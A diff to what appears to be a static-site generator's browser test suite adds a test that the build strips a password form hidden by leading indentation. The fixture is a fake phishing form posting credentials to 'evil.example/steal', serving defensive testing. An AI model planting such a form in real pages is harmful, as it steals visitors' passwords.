@@ -257,3 +257,17 @@ def test_an_image_only_a_managers_page_names_in_srcset_stays_out_of_the_default_
     leaked = [p.relative_to(org.root).as_posix() for p in (org.root / "site").rglob("*")
               if p.is_file() and b"SECRET" in p.read_bytes()]
     assert not leaked, f"the managers' image is in the default build: {leaked}\n{out}"
+
+
+def test_a_body_that_starts_with_indented_code_is_checked_as_the_page_shows_it(browser, tmp_path):
+    """The check reads the body as written, where four leading spaces make the first line a code
+    block; the page is built from the body with its white space stripped, where the same line
+    is a raw HTML block: a live password form posting to another site."""
+    site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + '    <form action="https://evil.example/steal">'
+                            '<input type="password" name="pw"><button>Sign in</button></form>\n\nHello.\n'})
+    with serve_directory(site) as origin:
+        page = browser.new_page()
+        page.goto(f"{origin}/teams/it/sops/outage/")
+        forms = page.evaluate("() => [...document.forms].map(f => f.action).filter(a => a.includes('evil.example'))")
+        page.close()
+    assert not forms, f"a form posting elsewhere: {forms}"
